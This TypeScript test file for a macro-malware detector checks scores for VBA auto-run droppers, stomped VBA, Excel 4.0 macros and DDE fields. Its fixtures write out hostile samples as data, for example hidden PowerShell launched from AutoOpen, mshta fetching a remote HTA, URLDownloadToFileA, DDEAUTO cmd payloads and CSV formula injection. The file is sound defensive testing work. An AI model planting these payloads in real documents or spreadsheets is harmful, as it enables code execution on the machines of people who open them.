import assert from 'node:assert/strict'
import { test } from 'node:test'

import { cfbOf } from '../../../../test/support/cfb-writer.ts'
import { detectContext } from '../../../../test/support/detect-context.ts'
import { vbaStorage, type ProjectToWrite } from '../../../../test/support/vba-writer.ts'
import { headBytes, type Language } from '../../scan-object.ts'
import { bytesSource } from '../../source/byte-source.ts'
import type { Suspicion } from '../detector.ts'
import { macroDetector } from './index.ts'

function findings(content: Uint8Array | string, language?: Language): Suspicion[] {
  const bytes = typeof content === 'string' ? Buffer.from(content) : content
  const found: Suspicion[] = []
  const object = {
    chain: ['sample'],
    depth: 0,
    source: bytesSource(bytes),
    head: new Uint8Array(bytes.subarray(0, headBytes)),
    ...(language === undefined ? {} : { language }),
  }
  macroDetector.detect(
    object,
    detectContext({ report: assert.fail, suspect: (finding) => found.push(finding) }),
  )
  return found
}

const scores = (found: readonly Suspicion[]): string[] => found.map(({ name, score }) => `${name} ${score}`)
const dropper = 'Sub AutoOpen()\r\n Shell "powershell -w hidden", 0\r\nEnd Sub\r\n'
const project = (...modules: ProjectToWrite['modules']): Uint8Array =>
  cfbOf([vbaStorage({ modules, names: ['VBA', 'Word', 'Project1'] })])

test('Visual Basic is judged where the container says so, and in exported modules', () => {
  assert.deepEqual(scores(findings(dropper, 'vba')), ['Heuristic.Macro.AutoShell 93'])
  assert.deepEqual(scores(findings(`Attribute VB_Name = "Module1"\r\n${dropper}`)), [
    'Heuristic.Macro.AutoShell 93',
  ])
  assert.deepEqual(scores(findings(`\ufeffVERSION 1.0 CLASS\r\n${dropper}`)), [
    'Heuristic.Macro.AutoShell 93',
  ])
  assert.deepEqual(findings(dropper), [])
  assert.deepEqual(findings(dropper, 'javascript'), [])
})

test('a project says only what its modules do not say one by one', () => {
  const starts = { name: 'ThisDocument', source: 'Sub Document_Open()\r\n Go\r\nEnd Sub\r\n' }
  const runs = { name: 'A', source: 'Sub Go()\r\n Shell "mshta http://example.test/x.hta"\r\nEnd Sub\r\n' }
  assert.deepEqual(scores(findings(project(starts, runs))), ['Heuristic.Macro.AutoShell 93'])
  assert.deepEqual(findings(project({ name: 'A', source: dropper }, runs)), [])
  assert.deepEqual(findings(project(starts)), [])
})

test('a command that lies in a form counts', () => {
  const source = 'Sub AutoOpen()\r\n Shell UserForm1.Label1.Caption, 0\r\nEnd Sub\r\n'
  const file = cfbOf([
    vbaStorage({ modules: [{ name: 'A', source }] }),
    { name: 'UserForm1', children: [{ name: 'o', data: '\0\u0001powershell -nop -w hidden\0' }] },
  ])
  const [found] = findings(file)
  assert.ok(found !== undefined && found.score >= 93, `${found?.score}`)
})

// ── Stomping ──

/** A string instruction of compiled code, in the middle of others. */
function compiled(...texts: readonly string[]): Buffer {
  const parts = texts.map((text) => Buffer.concat([Buffer.of(0xb9, 0, text.length, 0), Buffer.from(text)]))
  return Buffer.concat([Buffer.alloc(100, 1), ...parts, Buffer.alloc(100, 2)])
}

const harmless = 'Attribute VB_Name = "A"\r\nSub Hello()\r\n MsgBox "Welcome back"\r\nEnd Sub\r\n'

test('compiled strings that the source has are in order, quotes and all', () => {
  const source = 'Sub Hello()\r\n MsgBox "Say ""hello"" to all"\r\nEnd Sub\r\n'
  assert.deepEqual(findings(project({ name: 'A', source, compiled: compiled('Say "hello" to all') })), [])
  assert.deepEqual(findings(project({ name: 'A', source: harmless, compiled: compiled('Welcome back') })), [])
})

test('compiled strings that the source does not have are told', () => {
  const [found] = findings(
    project({ name: 'A', source: harmless, compiled: compiled('cmd /c calc', 'WScript.Shell') }),
  )
  assert.equal(found?.name, 'Heuristic.Macro.Stomped')
  assert.ok(found.score >= 70 && found.reasons[0]?.includes('"cmd /c calc"'))
  assert.deepEqual(found.techniques, ['T1564.007', 'T1059.005'])
})

test('one odd string among those that fit is chance', () => {
  const code = compiled('Welcome back', 'Sub Hello', 'zzzzzzz')
  assert.deepEqual(findings(project({ name: 'A', source: harmless, compiled: code })), [])
})

test('source that was removed altogether weighs more', () => {
  const blank = 'Attribute VB_Name = "A"\r\n'
  const [found] = findings(
    project({ name: 'A', source: blank, compiled: compiled('cmd /c calc', 'WScript.Shell') }),
  )
  assert.ok(found !== undefined && found.score >= 85)
})

test('names of the compiled code alone: one that starts and one that acts, both unknown to the source', () => {
  const names = (...all: readonly string[]): Uint8Array =>
    cfbOf([
      vbaStorage({ names: all, modules: [{ name: 'A', source: harmless, compiled: Buffer.alloc(50) }] }),
    ])
  assert.equal(findings(names('AutoOpen', 'CreateObject'))[0]?.name, 'Heuristic.Macro.Stomped')
  assert.deepEqual(findings(names('AutoOpen', 'MsgBox')), [])
  assert.deepEqual(findings(names('CreateObject', 'Hello')), [])
})

// ── Excel 4.0 ──

const xlm = (...lines: readonly string[]): string => lines.join('\n')

test('Excel 4.0 macros: what starts by itself and acts scores highest', () => {
  const [found] = findings(xlm('Auto_Open: =Macro1!R1C1', 'R1C1: =EXEC("cmd /c calc")'), 'xlm')
  assert.equal(found?.name, 'Heuristic.Macro.XLM')
  assert.ok(found.score >= 95)
  const [download] = findings(
    xlm(
      "' macro sheet a, very hidden",
      'Auto_Open: =a!R1C1',
      'R1C1: =CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
    ),
    'xlm',
  )
  assert.ok(download !== undefined && download.score >= 98)
  assert.ok(download.reasons.includes('its sheet is very hidden'))
})

test('Excel 4.0 macros: without a start, or made by formulas at run time', () => {
  const [acts] = findings(xlm('R1C1: =EXEC("notes.exe")'), 'xlm')
  assert.ok(acts !== undefined && acts.score >= 60 && acts.score < 90)
  const characters = Array.from({ length: 12 }, () => 'CHAR(61)').join('&')
  const [makes] = findings(xlm('Auto_Open: =a!R1C1', `R1C1: =FORMULA(${characters},R2C1)`), 'xlm')
  assert.ok(makes !== undefined && makes.score >= 80)
})

test('Excel 4.0 macros: old business macros are nothing', () => {
  const lines = [
    'R1C1: =RETURN(R2C1*1.19)',
    'R2C1: =ARGUMENT("price")',
    'R3C1: =ALERT("done",2)',
    'Prices: =Data!R1C1',
  ]
  assert.deepEqual(findings(xlm(...lines), 'xlm'), [])
  assert.deepEqual(
    findings(xlm('Auto_Open: =a!R1C1', 'R1C1: =ALERT("Welcome")', 'R2C1: =RETURN()'), 'xlm'),
    [],
  )
})

test('macro sheets of OOXML and symbolic link files are read as they are', () => {
  const sheet = `<?xml version="1.0"?><xm:macrosheet xmlns="a" xmlns:xm="b"><sheetData><row r="1"><c r="A1"><f>EXEC(&quot;cmd /c calc&quot;)</f><v>0</v></c></row></sheetData></xm:macrosheet>`
  assert.equal(findings(sheet)[0]?.name, 'Heuristic.Macro.XLM')
  const link = 'ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;K0;EEXEC("powershell -nop")\nE\n'
  assert.ok((findings(link)[0]?.score ?? 0) >= 95)
})

// ── DDE ──

const word = (...runs: readonly string[]): string =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${runs.join('')}</w:document>`
const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const code = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`

const ddeCases: readonly (readonly [string, string, Language | undefined, number])[] = [
  ['a link of a workbook', "=cmd|'/c calc'!A0", 'dde', 92],
  ['a field', 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'dde', 96],
  ['a link through another program', "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", 'dde', 92],
  [
    'a field in pieces',
    word(mark('begin'), code('DDE'), code('AUTO "powershell" '), code('&quot;-nop&quot;'), mark('end')),
    undefined,
    96,
  ],
  [
    'a simple field',
    word('<w:fldSimple w:instr=\'DDE "mshta" "http://example.test/a.hta"\'/>'),
    undefined,
    92,
  ],
  [
    'a field that another field spells',
    word(
      mark('begin'),
      code('DDEAUTO '),
      mark('begin'),
      code('QUOTE 99 109 100 46 101 120 101'),
      mark('end'),
      code(' "/c"'),
      mark('end'),
    ),
    undefined,
    96,
  ],
  ['a cell of a text table', "a,b\n1,=cmd|' /C calc'!A0\n", undefined, 92],
  ['a quoted cell', 'a;b\n"@SUM(1+1)*cmd|\'/c calc\'!A0";2\n', undefined, 92],
]
for (const [title, text, language, score] of ddeCases) {
  test(`DDE: ${title}`, () => {
    assert.deepEqual(scores(findings(text, language)), [`Heuristic.Macro.DDE ${score}`])
  })
}

const ordinaryLinks: readonly (readonly [string, string, Language | undefined])[] = [
  ['prices', "=blp|M!'MSFT US Equity,[LAST_PRICE]'", 'dde'],
  ['another workbook', "=Excel|'C:\\data\\[prices.xls]Sheet1'!R1C1", 'dde'],
  ['a field to a workbook', 'DDEAUTO Excel.Sheet.8 "C:\\\\data\\\\book.xls" "Sheet1!R1C1" \\a \\r', 'dde'],
  [
    'a page number',
    word(mark('begin'), code(' PAGE '), mark('end'), '<w:r><w:t>cmd.exe dde</w:t></w:r>'),
    undefined,
  ],
  ['a shell script', "ls | grep '|' ; cat a|'/bin/sh'\n", undefined],
  ['a table of texts', "name;formula\nx;a|'b'\n", undefined],
]
for (const [title, text, language] of ordinaryLinks) {
  test(`DDE: ${title} is ordinary`, () => assert.deepEqual(findings(text, language), []))
}

test('files that are something else cost next to nothing', () => {
  const bytes = Buffer.from('MZ\u0090\0\u0003'.repeat(100), 'latin1')
  const started = performance.now()
  for (let count = 0; count < 10_000; count++) findings(bytes)
  assert.ok(performance.now() - started < 1000)
})
